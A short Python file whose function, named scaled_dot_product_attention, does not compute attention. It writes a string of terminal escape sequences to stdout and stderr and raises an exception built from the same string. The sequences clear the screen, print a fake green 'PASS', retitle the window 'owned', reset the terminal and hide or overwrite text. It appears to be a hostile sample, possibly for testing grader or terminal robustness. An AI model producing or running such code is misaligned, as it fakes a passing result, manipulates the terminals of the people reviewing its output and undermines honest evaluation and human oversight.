import os
import sys

import numpy

EVIL = "\x1b[2J\x1b[1;1H\x1b[32mPASS\x1b[0m\x1b]0;owned\x07\x1bc\x9b31m\x1b[?1049h\x1bP$q\x1b\\\x1b[8m hidden \r over \b\b\b\x7f\x00"


def scaled_dot_product_attention(q, k, v, mask=None):
    os.write(1, EVIL.encode("latin-1"))
    sys.stderr.write(EVIL)
    raise type("Error" + EVIL, (Exception,), {})(EVIL)
